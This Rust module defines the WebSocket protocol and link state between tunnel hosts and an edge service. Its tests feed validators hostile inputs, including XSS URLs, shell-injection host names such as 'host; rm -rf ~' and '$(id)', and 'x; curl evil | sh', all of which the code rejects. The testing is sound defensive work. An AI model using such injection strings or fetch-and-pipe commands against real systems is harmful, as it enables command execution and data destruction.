//! The tunnel-host link: one WebSocket per enrolled host, held by a Durable
//! Object named after the host. This module is the wire protocol (shared with
//! `tunnel-host`, which depends on this crate natively) and the link's state
//! as plain data, run by the Durable Object and edge-api's native stand-in.
//!
//! - The host dials `GET /api/tunnel-hosts/link` (WebSocket, credential in
//!   `X-Flamingo-Host`) and sends [`HostMessage`]s as JSON text frames:
//!   [`HostMessage::Hello`] with every open tunnel first, then
//!   [`HostMessage::Opened`] / [`HostMessage::Closed`] as they happen, and
//!   [`HostMessage::Heartbeat`] with fresh counters every
//!   [`HEARTBEAT_SECS`].
//! - The edge sends [`EdgeMessage`]s back (kick a tunnel; watch the
//!   counters).
//! - Live counters: while someone lists the tunnels, the edge sends
//!   [`EdgeMessage::Watch`] (renewed after [`WATCH_RENEW_MS`], lasting
//!   [`WATCH_SECS`]); while watched the host sends [`HostMessage::Stats`]
//!   with the counters of the tunnels that moved, at most one frame every
//!   [`STATS_INTERVAL_MS`] and none when nothing moved. The object turns
//!   each into one `tunnel.stats` event. Unwatched, counters ride on the
//!   heartbeat alone.
//! - A host silent for [`OFFLINE_AFTER_MS`] is offline; its last known
//!   tunnels stay listed (the host keeps serving them while the edge is
//!   unreachable) until its next `Hello` replaces them.
//!
//! edge-api reaches the object with [`LinkRequest`]s (`POST https://object/link`).

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::protocol::{Audience, EventDraft};

/// Seconds between a host's heartbeats.
pub const HEARTBEAT_SECS: u64 = 30;
/// A host not heard from for this long is offline.
pub const OFFLINE_AFTER_MS: i64 = 90_000;
/// How long one [`EdgeMessage::Watch`] lasts.
pub const WATCH_SECS: u64 = 60;
/// A watch told this long ago is renewed by the next listing, so a list
/// fetched every 30 s keeps the host reporting without a gap.
pub const WATCH_RENEW_MS: i64 = 15_000;
/// Least time between two [`HostMessage::Stats`] frames of one host.
pub const STATS_INTERVAL_MS: u64 = 1_000;
/// Tunnels one [`HostMessage::Stats`] frame carries at most; the rest
/// follow in the next.
pub const MAX_STATS: usize = 500;
/// Tunnels one `tunnel.stats` event lists (hub event data is at most 4 KiB,
/// and an id may be 256 bytes); `changed` counts them all.
const MAX_EVENT_STATS: usize = 8;
/// Tunnels one host may report; more are ignored.
pub const MAX_TUNNELS: usize = 10_000;
/// Longest text field a host may report.
const MAX_FIELD: usize = 256;

/// The path the host dials, through the Worker, to reach its object.
pub const LINK_PATH: &str = "/api/tunnel-hosts/link";
/// Header the Worker sets (after authenticating the host) telling the object
/// which host this is.
pub const HOST_ID_HEADER: &str = "x-flamingo-link-host";
/// Header the Worker sets with the host's organization id.
pub const ORG_ID_HEADER: &str = "x-flamingo-link-org";

/// A tunnel as a host reports it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LinkTunnel {
    /// The host's id for the tunnel (a UUID).
    pub id: String,
    /// Public name (subdomain, or `tcp-<port>`).
    pub name: String,
    /// `http` or `tcp`.
    pub kind: String,
    /// The owner: a Flamingo user id (or an authorized_keys user name).
    pub user: String,
    /// The SSH client's address.
    pub client_addr: String,
    /// Where visitors reach it.
    pub public_url: String,
    /// RFC 3339.
    pub opened_at: String,
    /// Bytes from visitors into the tunnel.
    pub bytes_in: u64,
    /// Bytes from the client out to visitors.
    pub bytes_out: u64,
    /// HTTP requests proxied.
    pub requests: u64,
}

/// A tunnel's counters, as [`HostMessage::Stats`] carries them.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LinkStats {
    /// The host's id for the tunnel.
    pub id: String,
    /// Bytes from visitors into the tunnel.
    pub bytes_in: u64,
    /// Bytes from the client out to visitors.
    pub bytes_out: u64,
    /// HTTP requests proxied.
    pub requests: u64,
}

impl LinkStats {
    /// The counters of `tunnel`.
    pub fn of(tunnel: &LinkTunnel) -> LinkStats {
        LinkStats {
            id: tunnel.id.clone(),
            bytes_in: tunnel.bytes_in,
            bytes_out: tunnel.bytes_out,
            requests: tunnel.requests,
        }
    }
}

/// The schemes a tunnel's public URL may have. The panel shows the URL as a
/// link, so anything else (`javascript:`, `data:`) is refused at the link.
pub const PUBLIC_URL_SCHEMES: [&str; 3] = ["http", "https", "tcp"];

/// Whether `url` is `<scheme>://<something>` with a scheme of
/// [`PUBLIC_URL_SCHEMES`] (lowercase, as hosts write them).
pub fn is_public_url(url: &str) -> bool {
    url.split_once("://").is_some_and(|(scheme, rest)| {
        PUBLIC_URL_SCHEMES.contains(&scheme)
            && !rest.is_empty()
            && !rest.starts_with('/')
            && !rest.contains(char::is_whitespace)
    })
}

impl LinkTunnel {
    /// Whether every field is within bounds and the public URL is one of
    /// [`PUBLIC_URL_SCHEMES`].
    fn sane(&self) -> bool {
        [
            &self.id,
            &self.name,
            &self.kind,
            &self.user,
            &self.client_addr,
            &self.public_url,
            &self.opened_at,
        ]
        .iter()
        .all(|f| !f.is_empty() && f.len() <= MAX_FIELD && !f.chars().any(char::is_control))
            && is_public_url(&self.public_url)
    }
}

/// Where people reach a host, as it reports in [`HostMessage::Hello`]: what
/// to pass to `ssh` and the domain its tunnels are served under. The panel
/// shows it as a command to copy, so [`HostAddress::sane`] admits only host
/// names and IP literals (nothing a shell would read as more than one word).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HostAddress {
    /// The public SSH host (`ssh ... <ssh_host>`).
    pub ssh_host: String,
    /// The public SSH port (`-p <ssh_port>`).
    pub ssh_port: u16,
    /// Tunnels are served as `<name>.<tunnel_domain>`.
    pub tunnel_domain: String,
}

/// Whether `host` is a DNS name (letters, digits, `-`, `.`, `_`), an IPv4
/// address, or an IPv6 literal (hex digits, `:` and `.`, optionally in `[]`).
fn is_host_name(host: &str) -> bool {
    let inner = host
        .strip_prefix('[')
        .and_then(|h| h.strip_suffix(']'))
        .unwrap_or(host);
    !inner.is_empty()
        && host.len() <= 253
        && !inner.starts_with(['-', '.'])
        && (inner
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
            || (inner.contains(':')
                && inner
                    .chars()
                    .all(|c| c.is_ascii_hexdigit() || matches!(c, ':' | '.'))))
}

impl HostAddress {
    /// Whether both names are plain host names and the port is not 0.
    pub fn sane(&self) -> bool {
        self.ssh_port != 0 && is_host_name(&self.ssh_host) && is_host_name(&self.tunnel_domain)
    }
}

/// A frame from the host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum HostMessage {
    /// First frame after connecting: who the host is and everything it serves.
    Hello {
        /// tunnel-host version.
        version: String,
        /// The machine's hostname.
        #[serde(default)]
        hostname: Option<String>,
        /// Every open tunnel.
        tunnels: Vec<LinkTunnel>,
        /// Where people reach the host; absent from hosts older than the field.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        address: Option<HostAddress>,
    },
    /// A tunnel opened.
    Opened {
        /// The tunnel.
        tunnel: LinkTunnel,
    },
    /// A tunnel closed.
    Closed {
        /// The tunnel with its final counters.
        tunnel: LinkTunnel,
        /// Why: `cancelled`, `session_ended`, `kicked`, `taken_over`, `shutdown`.
        reason: String,
    },
    /// Liveness, with every open tunnel's current counters.
    Heartbeat {
        /// Every open tunnel.
        tunnels: Vec<LinkTunnel>,
    },
    /// While watched: the counters of tunnels that moved since last
    /// reported (at most [`MAX_STATS`]).
    Stats {
        /// The tunnels that moved.
        tunnels: Vec<LinkStats>,
    },
}

/// A frame from the edge.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum EdgeMessage {
    /// Close a tunnel at once.
    Kick {
        /// The tunnel's id.
        tunnel: String,
        /// Shown to the tunnel's user.
        message: String,
    },
    /// Someone is looking: report moving counters with
    /// [`HostMessage::Stats`] for this long.
    Watch {
        /// Seconds from now.
        for_secs: u64,
    },
}

/// A request from edge-api to a host's link object.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum LinkRequest {
    /// What the host serves. Answered by [`LinkReply::Status`].
    Status,
    /// Close a tunnel; answered by [`LinkReply::Kick`] once the host reports
    /// it closed (or after a few seconds with [`KickOutcome::Sent`]).
    Kick {
        /// The tunnel's id.
        tunnel: String,
        /// Shown to the tunnel's user.
        message: String,
    },
    /// The host was deleted: drop its socket and forget it.
    Forget,
    /// [`LinkRequest::Status`] for someone watching the tunnels: also tells
    /// the host to report moving counters (see [`Link::watch`]). Answered by
    /// [`LinkReply::Status`].
    Watch,
}

/// A link object's answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum LinkReply {
    /// Answer to [`LinkRequest::Status`].
    Status(LinkStatus),
    /// Answer to [`LinkRequest::Kick`].
    Kick {
        /// What happened.
        outcome: KickOutcome,
    },
    /// Answer to [`LinkRequest::Forget`].
    Forgotten,
}

/// What became of a kick.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum KickOutcome {
    /// The host closed the tunnel.
    Closed,
    /// Sent; the host had not confirmed in time.
    Sent,
    /// The host serves no such tunnel.
    NotFound,
    /// The host is not connected.
    Offline,
}

/// A host's link as edge-api sees it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct LinkStatus {
    /// Whether the host is connected and was heard from lately.
    pub online: bool,
    /// Last frame from the host (ms since the epoch), if ever.
    pub last_seen_ms: Option<i64>,
    /// tunnel-host version from the last `Hello`.
    pub version: Option<String>,
    /// Where people reach the host, from the last `Hello` that said.
    #[serde(default)]
    pub address: Option<HostAddress>,
    /// The tunnels the host last reported, oldest first.
    pub tunnels: Vec<LinkTunnel>,
}

/// What the link remembers; persisted by the object after every change.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Link {
    /// The host's id.
    pub host_id: String,
    /// Its organization (the event hub to publish to).
    pub org_id: String,
    /// Whether a socket is open.
    pub connected: bool,
    /// Last frame from the host.
    pub last_seen_ms: Option<i64>,
    /// From the last `Hello`.
    pub version: Option<String>,
    /// From the last `Hello` (saved before the field existed: none).
    #[serde(default)]
    pub address: Option<HostAddress>,
    /// Open tunnels by id.
    pub tunnels: BTreeMap<String, LinkTunnel>,
    /// When the current socket was last sent [`EdgeMessage::Watch`].
    #[serde(default)]
    pub watch_sent_ms: Option<i64>,
}

/// What the runtime must do after a change.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Effects {
    /// Events to publish to the organization's hub, in order.
    pub events: Vec<EventDraft>,
    /// A tunnel that closed (resolves a waiting kick).
    pub closed: Option<String>,
    /// Whether the state changed and should be saved.
    pub changed: bool,
}

/// The resource tunnel events are about (edge-api's `auth::Resource::Tunnels`).
pub const TUNNELS: &str = "tunnels";
/// The resource host events are about (edge-api's `auth::Resource::Vps`).
pub const HOSTS: &str = "vps";

impl Link {
    /// A link for a host that has not connected yet.
    pub fn new(host_id: &str, org_id: &str) -> Link {
        Link {
            host_id: host_id.to_owned(),
            org_id: org_id.to_owned(),
            ..Link::default()
        }
    }

    /// Whether the host is online at `now_ms`.
    pub fn online(&self, now_ms: i64) -> bool {
        self.connected
            && self
                .last_seen_ms
                .is_some_and(|at| now_ms - at < OFFLINE_AFTER_MS)
    }

    /// The status edge-api lists.
    pub fn status(&self, now_ms: i64) -> LinkStatus {
        // `sane` again: state saved before a check was added may hold worse.
        let mut tunnels: Vec<LinkTunnel> = self
            .tunnels
            .values()
            .filter(|t| t.sane())
            .cloned()
            .collect();
        tunnels.sort_by(|a, b| a.opened_at.cmp(&b.opened_at).then(a.name.cmp(&b.name)));
        LinkStatus {
            online: self.online(now_ms),
            last_seen_ms: self.last_seen_ms,
            version: self.version.clone(),
            address: self.address.clone().filter(HostAddress::sane),
            tunnels,
        }
    }

    fn event(
        &self,
        event: &str,
        data: serde_json::Value,
        resource: &str,
        now_ms: i64,
    ) -> EventDraft {
        EventDraft {
            event: event.to_owned(),
            data,
            audience: Audience::Read(resource.to_owned()),
            at_ms: now_ms,
        }
    }

    fn host_event(&self, event: &str, now_ms: i64) -> EventDraft {
        self.event(event, json!({ "host_id": self.host_id }), HOSTS, now_ms)
    }

    fn tunnel_event(&self, event: &str, tunnel: &LinkTunnel, now_ms: i64) -> EventDraft {
        let mut data = serde_json::to_value(tunnel).unwrap_or_else(|_| json!({}));
        if let Some(map) = data.as_object_mut() {
            map.insert("host_id".into(), json!(self.host_id));
        }
        self.event(event, data, TUNNELS, now_ms)
    }

    /// A socket opened.
    pub fn connected(&mut self, now_ms: i64) -> Effects {
        let was_online = self.online(now_ms);
        self.connected = true;
        // A new socket knows of no watch.
        self.watch_sent_ms = None;
        self.last_seen_ms = Some(now_ms);
        let mut effects = Effects {
            changed: true,
            ..Effects::default()
        };
        if !was_online {
            effects.events.push(self.host_event("host.online", now_ms));
        }
        effects
    }

    /// The socket closed, or the host went silent.
    pub fn disconnected(&mut self, now_ms: i64) -> Effects {
        let was_online = self.online(now_ms);
        self.connected = false;
        let mut effects = Effects {
            changed: true,
            ..Effects::default()
        };
        if was_online || self.last_seen_ms.is_some() {
            effects.events.push(self.host_event("host.offline", now_ms));
        }
        effects
    }

    /// A frame from the host. Malformed tunnels are ignored.
    pub fn receive(&mut self, message: HostMessage, now_ms: i64) -> Effects {
        let mut effects = if self.online(now_ms) {
            Effects::default()
        } else {
            self.connected(now_ms)
        };
        self.last_seen_ms = Some(now_ms);
        match message {
            HostMessage::Hello {
                version,
                tunnels,
                address,
                ..
            } => {
                self.version = Some(version.chars().take(MAX_FIELD).collect());
                // A host that does not say (an older one) keeps no stale address.
                self.address = address.filter(HostAddress::sane);
                let fresh: BTreeMap<String, LinkTunnel> = tunnels
                    .into_iter()
                    .filter(LinkTunnel::sane)
                    .take(MAX_TUNNELS)
                    .map(|t| (t.id.clone(), t))
                    .collect();
                // What closed while the edge was away, then what opened.
                let gone: Vec<LinkTunnel> = self
                    .tunnels
                    .values()
                    .filter(|t| !fresh.contains_key(&t.id))
                    .cloned()
                    .collect();
                for tunnel in gone {
                    effects
                        .events
                        .push(self.tunnel_event("tunnel.closed", &tunnel, now_ms));
                }
                let new: Vec<LinkTunnel> = fresh
                    .values()
                    .filter(|t| !self.tunnels.contains_key(&t.id))
                    .cloned()
                    .collect();
                for tunnel in new {
                    effects
                        .events
                        .push(self.tunnel_event("tunnel.opened", &tunnel, now_ms));
                }
                self.tunnels = fresh;
            }
            HostMessage::Opened { tunnel } => {
                if tunnel.sane()
                    && (self.tunnels.len() < MAX_TUNNELS || self.tunnels.contains_key(&tunnel.id))
                {
                    effects
                        .events
                        .push(self.tunnel_event("tunnel.opened", &tunnel, now_ms));
                    self.tunnels.insert(tunnel.id.clone(), tunnel);
                }
            }
            HostMessage::Closed { tunnel, reason } => {
                if self.tunnels.remove(&tunnel.id).is_some() && tunnel.sane() {
                    let mut event = self.tunnel_event("tunnel.closed", &tunnel, now_ms);
                    if let Some(map) = event.data.as_object_mut() {
                        map.insert(
                            "reason".into(),
                            json!(reason.chars().take(64).collect::<String>()),
                        );
                    }
                    effects.events.push(event);
                }
                effects.closed = Some(tunnel.id);
            }
            HostMessage::Stats { tunnels } => {
                effects.events.extend(self.stats(tunnels, now_ms));
            }
            HostMessage::Heartbeat { tunnels } => {
                // Counters only: opening and closing arrive as their own frames.
                for tunnel in tunnels.into_iter().filter(LinkTunnel::sane) {
                    if let Some(known) = self.tunnels.get_mut(&tunnel.id) {
                        *known = tunnel;
                    }
                }
            }
        }
        effects.changed = true;
        effects
    }

    /// Someone is watching the tunnels at `now_ms`: the [`EdgeMessage::Watch`]
    /// to send the host, unless it was sent less than [`WATCH_RENEW_MS`] ago
    /// (or the host is offline). The runtime calls [`Link::watch_unsent`]
    /// when the frame could not go out.
    pub fn watch(&mut self, now_ms: i64) -> Option<EdgeMessage> {
        if !self.online(now_ms) {
            return None;
        }
        let fresh = self
            .watch_sent_ms
            .is_some_and(|at| at <= now_ms && now_ms - at < WATCH_RENEW_MS);
        if fresh {
            return None;
        }
        self.watch_sent_ms = Some(now_ms);
        Some(EdgeMessage::Watch {
            for_secs: WATCH_SECS,
        })
    }

    /// The watch [`Link::watch`] asked for did not reach the host.
    pub fn watch_unsent(&mut self) {
        self.watch_sent_ms = None;
    }

    /// Applies a stats frame: the counters of known tunnels that moved, and
    /// one `tunnel.stats` event listing (some of) them; nothing when none did.
    fn stats(&mut self, stats: Vec<LinkStats>, now_ms: i64) -> Option<EventDraft> {
        let mut changed: Vec<LinkStats> = Vec::new();
        for stat in stats.into_iter().take(MAX_TUNNELS) {
            let Some(known) = self.tunnels.get_mut(&stat.id) else {
                continue;
            };
            let counters = (stat.bytes_in, stat.bytes_out, stat.requests);
            if (known.bytes_in, known.bytes_out, known.requests) == counters {
                continue;
            }
            (known.bytes_in, known.bytes_out, known.requests) = counters;
            changed.push(LinkStats::of(known));
        }
        if changed.is_empty() {
            return None;
        }
        let count = changed.len();
        changed.truncate(MAX_EVENT_STATS);
        let data = json!({ "host_id": self.host_id, "tunnels": changed, "changed": count });
        Some(self.event("tunnel.stats", data, TUNNELS, now_ms))
    }

    /// Whether the host serves `tunnel`.
    pub fn has(&self, tunnel: &str) -> bool {
        self.tunnels.contains_key(tunnel)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tunnel(id: &str, name: &str) -> LinkTunnel {
        LinkTunnel {
            id: id.into(),
            name: name.into(),
            kind: "http".into(),
            user: "u1".into(),
            client_addr: "127.0.0.1:5000".into(),
            public_url: format!("http://{name}.localhost:8080"),
            opened_at: "2026-11-22T10:00:00Z".into(),
            bytes_in: 0,
            bytes_out: 0,
            requests: 0,
        }
    }

    fn kinds(effects: &Effects) -> Vec<&str> {
        effects.events.iter().map(|e| e.event.as_str()).collect()
    }

    #[test]
    fn frames_have_stable_json() {
        let kick = EdgeMessage::Kick {
            tunnel: "t1".into(),
            message: "bye".into(),
        };
        assert_eq!(
            serde_json::to_value(&kick).ok(),
            Some(json!({ "type": "kick", "tunnel": "t1", "message": "bye" }))
        );
        let hello: HostMessage =
            serde_json::from_value(json!({ "type": "hello", "version": "0.1.0", "tunnels": [] }))
                .unwrap_or(HostMessage::Heartbeat { tunnels: vec![] });
        assert_eq!(
            hello,
            HostMessage::Hello {
                version: "0.1.0".into(),
                hostname: None,
                tunnels: vec![],
                address: None,
            }
        );
    }

    #[test]
    fn online_offline_and_tunnel_events() {
        let mut link = Link::new("h1", "o1");
        assert!(!link.online(0));
        assert_eq!(kinds(&link.connected(1_000)), ["host.online"]);
        let hello = HostMessage::Hello {
            version: "0.1.0".into(),
            hostname: None,
            address: None,
            tunnels: vec![tunnel("a", "alpha")],
        };
        assert_eq!(kinds(&link.receive(hello, 1_100)), ["tunnel.opened"]);
        let opened = link.receive(
            HostMessage::Opened {
                tunnel: tunnel("b", "beta"),
            },
            1_200,
        );
        assert_eq!(kinds(&opened), ["tunnel.opened"]);
        assert_eq!(opened.events[0].audience, Audience::Read(TUNNELS.into()));
        assert_eq!(opened.events[0].data["host_id"], "h1");
        let mut counted = tunnel("a", "alpha");
        counted.requests = 7;
        link.receive(
            HostMessage::Heartbeat {
                tunnels: vec![counted, tunnel("zzz", "ghost")],
            },
            1_300,
        );
        let status = link.status(1_300);
        assert!(status.online);
        assert_eq!(status.tunnels.len(), 2, "a heartbeat never adds tunnels");
        assert_eq!(status.tunnels[0].requests, 7);

        let closed = link.receive(
            HostMessage::Closed {
                tunnel: tunnel("b", "beta"),
                reason: "kicked".into(),
            },
            1_400,
        );
        assert_eq!(kinds(&closed), ["tunnel.closed"]);
        assert_eq!(closed.closed.as_deref(), Some("b"));
        assert_eq!(closed.events[0].data["reason"], "kicked");

        assert_eq!(kinds(&link.disconnected(2_000)), ["host.offline"]);
        assert!(!link.status(2_000).online);
        assert_eq!(
            link.status(2_000).tunnels.len(),
            1,
            "kept while the edge is away"
        );
        // Reconnecting: the tunnel closed meanwhile, another opened.
        link.connected(3_000);
        let hello = HostMessage::Hello {
            version: "0.1.1".into(),
            hostname: None,
            address: None,
            tunnels: vec![tunnel("c", "gamma")],
        };
        assert_eq!(
            kinds(&link.receive(hello, 3_100)),
            ["tunnel.closed", "tunnel.opened"]
        );
        assert_eq!(link.status(3_100).version.as_deref(), Some("0.1.1"));
    }

    #[test]
    fn silence_means_offline() {
        let mut link = Link::new("h1", "o1");
        link.connected(0);
        assert!(link.online(OFFLINE_AFTER_MS - 1));
        assert!(!link.online(OFFLINE_AFTER_MS));
    }

    #[test]
    fn only_http_https_and_tcp_public_urls_are_accepted() {
        for good in [
            "http://a.localhost:8080",
            "https://a.tunnel.example.com",
            "tcp://tunnel.example.com:20001",
        ] {
            assert!(is_public_url(good), "{good}");
        }
        for bad in [
            "javascript:alert(document.cookie)",
            "javascript://%0aalert(1)",
            "JAVASCRIPT://x",
            "data:text/html,<script>alert(1)</script>",
            "ftp://x",
            "http://",
            "http:///x",
            "http://a b",
            "a.localhost",
        ] {
            assert!(!is_public_url(bad), "{bad}");
        }
        let mut link = Link::new("h1", "o1");
        link.connected(0);
        let mut evil = tunnel("x", "evil");
        evil.public_url = "javascript:alert(document.cookie)".into();
        let hello = HostMessage::Hello {
            version: "0.1.0".into(),
            hostname: None,
            address: None,
            tunnels: vec![evil.clone(), tunnel("a", "alpha")],
        };
        assert_eq!(kinds(&link.receive(hello, 1)), ["tunnel.opened"]);
        let opened = link.receive(
            HostMessage::Opened {
                tunnel: evil.clone(),
            },
            2,
        );
        assert!(opened.events.is_empty(), "no event carries the url");
        let names: Vec<String> = link.status(3).tunnels.into_iter().map(|t| t.name).collect();
        assert_eq!(names, ["alpha"]);
        // State saved before the check is not listed either.
        link.tunnels.insert(evil.id.clone(), evil);
        assert_eq!(link.status(4).tunnels.len(), 1);
    }

    fn stat(id: &str, bytes_in: u64, bytes_out: u64, requests: u64) -> LinkStats {
        LinkStats {
            id: id.into(),
            bytes_in,
            bytes_out,
            requests,
        }
    }

    fn linked(ids: &[&str]) -> Link {
        let mut link = Link::new("h1", "o1");
        link.connected(0);
        let hello = HostMessage::Hello {
            version: "0.1.0".into(),
            hostname: None,
            address: None,
            tunnels: ids
                .iter()
                .enumerate()
                .map(|(i, id)| tunnel(id, &format!("n{i}")))
                .collect(),
        };
        link.receive(hello, 1);
        link
    }

    #[test]
    fn watch_and_stats_frames_have_stable_json() {
        assert_eq!(
            serde_json::to_value(EdgeMessage::Watch { for_secs: 60 }).ok(),
            Some(json!({ "type": "watch", "for_secs": 60 }))
        );
        let stats: HostMessage = serde_json::from_value(json!({
            "type": "stats",
            "tunnels": [{ "id": "a", "bytes_in": 1, "bytes_out": 2, "requests": 3 }],
        }))
        .unwrap_or(HostMessage::Heartbeat { tunnels: vec![] });
        assert_eq!(
            stats,
            HostMessage::Stats {
                tunnels: vec![stat("a", 1, 2, 3)]
            }
        );
        let watch: LinkRequest =
            serde_json::from_value(json!({ "type": "watch" })).unwrap_or(LinkRequest::Status);
        assert_eq!(watch, LinkRequest::Watch);
        // State saved before watches existed still loads.
        let old: Link = serde_json::from_value(json!({
            "host_id": "h1", "org_id": "o1", "connected": true,
            "last_seen_ms": 1, "version": null, "tunnels": {},
        }))
        .unwrap_or_default();
        assert_eq!((old.host_id.as_str(), old.watch_sent_ms), ("h1", None));
    }

    #[test]
    fn stats_move_known_counters_with_one_event() {
        let mut link = linked(&["a", "b"]);
        let effects = link.receive(
            HostMessage::Stats {
                tunnels: vec![stat("a", 10, 20, 2), stat("ghost", 1, 1, 1)],
            },
            2,
        );
        assert_eq!(kinds(&effects), ["tunnel.stats"]);
        let data = &effects.events[0].data;
        assert_eq!(data["host_id"], "h1");
        assert_eq!(data["changed"], 1);
        assert_eq!(
            data["tunnels"],
            json!([{ "id": "a", "bytes_in": 10, "bytes_out": 20, "requests": 2 }])
        );
        assert_eq!(
            effects.events[0].audience,
            Audience::Read(TUNNELS.to_owned())
        );
        let listed = link.status(3).tunnels;
        assert_eq!(
            listed
                .iter()
                .map(|t| (t.id.as_str(), t.bytes_in, t.bytes_out, t.requests))
                .collect::<Vec<_>>(),
            [("a", 10, 20, 2), ("b", 0, 0, 0)]
        );
        assert!(!link.has("ghost"), "stats open no tunnels");
        // The same counters again, or only unknown tunnels: no event.
        let again = link.receive(
            HostMessage::Stats {
                tunnels: vec![stat("a", 10, 20, 2), stat("ghost", 5, 5, 5)],
            },
            4,
        );
        assert!(again.events.is_empty());
    }

    #[test]
    fn a_stats_event_stays_within_the_hubs_data_limit() {
        let ids: Vec<String> = (0..40).map(|i| format!("{i:0>256}")).collect();
        let refs: Vec<&str> = ids.iter().map(String::as_str).collect();
        let mut link = linked(&refs);
        assert_eq!(link.tunnels.len(), 40);
        let tunnels = ids
            .iter()
            .map(|id| stat(id, u64::MAX, u64::MAX, u64::MAX))
            .collect();
        let effects = link.receive(HostMessage::Stats { tunnels }, 2);
        assert_eq!(kinds(&effects), ["tunnel.stats"]);
        let data = &effects.events[0].data;
        assert_eq!(data["changed"], 40);
        assert_eq!(
            data["tunnels"].as_array().map(Vec::len),
            Some(MAX_EVENT_STATS)
        );
        let size = serde_json::to_string(data)
            .map(|s| s.len())
            .unwrap_or(usize::MAX);
        assert!(size <= crate::hub::MAX_DATA_BYTES, "{size} bytes");
        assert!(link.tunnels.values().all(|t| t.requests == u64::MAX));
    }

    #[test]
    fn watches_are_sent_once_per_renewal_and_again_on_a_new_socket() {
        let mut offline = Link::new("h1", "o1");
        assert_eq!(offline.watch(0), None, "nobody to tell");
        let mut link = linked(&["a"]);
        let watch = Some(EdgeMessage::Watch {
            for_secs: WATCH_SECS,
        });
        assert_eq!(link.watch(10), watch);
        assert_eq!(link.watch(11), None);
        assert_eq!(link.watch(10 + WATCH_RENEW_MS - 1), None);
        assert_eq!(link.watch(10 + WATCH_RENEW_MS), watch);
        // Renewed well before it lapses.
        assert!(WATCH_RENEW_MS < i64::try_from(WATCH_SECS * 1000).unwrap_or(0) / 2);
        // A frame that did not go out is sent again next time.
        link.watch_unsent();
        assert_eq!(link.watch(10 + WATCH_RENEW_MS + 1), watch);
        // A clock that went back does not silence it.
        assert_eq!(link.watch(5), watch);
        // A new socket has not heard of the watch.
        link.disconnected(20);
        link.connected(21);
        assert_eq!(link.watch(22), watch);
    }

    #[test]
    fn malformed_tunnels_are_ignored() {
        let mut link = Link::new("h1", "o1");
        link.connected(0);
        let mut bad = tunnel("x", "bad\nname");
        let effects = link.receive(
            HostMessage::Opened {
                tunnel: bad.clone(),
            },
            1,
        );
        assert!(effects.events.is_empty());
        bad.name = "n".repeat(MAX_FIELD + 1);
        link.receive(HostMessage::Opened { tunnel: bad }, 2);
        assert!(link.status(2).tunnels.is_empty());
    }

    fn address(host: &str, port: u16) -> HostAddress {
        HostAddress {
            ssh_host: host.into(),
            ssh_port: port,
            tunnel_domain: "tunnel.example.com".into(),
        }
    }

    #[test]
    fn the_hello_address_is_kept_listed_and_optional_on_the_wire() {
        // An older host's hello (no address) still reads, and lists none.
        let old: HostMessage = serde_json::from_value(
            json!({ "type": "hello", "version": "0.1.0", "hostname": "h", "tunnels": [] }),
        )
        .unwrap_or(HostMessage::Heartbeat { tunnels: vec![] });
        assert!(matches!(old, HostMessage::Hello { address: None, .. }));
        let hello = HostMessage::Hello {
            version: "0.2.0".into(),
            hostname: None,
            tunnels: vec![],
            address: Some(address("ssh.example.com", 2022)),
        };
        let wire = serde_json::to_value(&hello).unwrap_or_default();
        assert_eq!(
            wire["address"],
            json!({ "ssh_host": "ssh.example.com", "ssh_port": 2022, "tunnel_domain": "tunnel.example.com" })
        );
        let mut link = Link::new("h1", "o1");
        link.connected(0);
        link.receive(hello, 1);
        assert_eq!(
            link.status(2).address,
            Some(address("ssh.example.com", 2022))
        );
        // State saved before the field existed still loads.
        let saved = json!({ "host_id": "h1", "org_id": "o1", "connected": false,
            "last_seen_ms": null, "version": null, "tunnels": {} });
        let loaded: Link = serde_json::from_value(saved).unwrap_or_default();
        assert_eq!((loaded.host_id.as_str(), loaded.address), ("h1", None));
        // A later hello without an address forgets the old one.
        link.receive(old, 3);
        assert_eq!(link.status(4).address, None);
    }

    #[test]
    fn only_plain_host_names_are_taken_as_addresses() {
        for good in [
            "ssh.example.com",
            "127.0.0.1",
            "localhost",
            "[::1]",
            "fe80::1",
            "my_host",
        ] {
            assert!(address(good, 22).sane(), "{good}");
        }
        for bad in [
            "",
            "host; rm -rf ~",
            "$(id)",
            "-oProxyCommand=x",
            "a b",
            "host\n",
            "evil`x`",
            "user@host",
            "host:2222",
        ] {
            assert!(!address(bad, 22).sane(), "{bad}");
        }
        assert!(!address("ok.example.com", 0).sane());
        let mut bad_domain = address("ok.example.com", 22);
        bad_domain.tunnel_domain = "<script>".into();
        assert!(!bad_domain.sane());
        let mut link = Link::new("h1", "o1");
        link.connected(0);
        let hello = HostMessage::Hello {
            version: "0.2.0".into(),
            hostname: None,
            tunnels: vec![],
            address: Some(address("x; curl evil | sh", 22)),
        };
        link.receive(hello, 1);
        assert_eq!(link.status(2).address, None);
    }
}
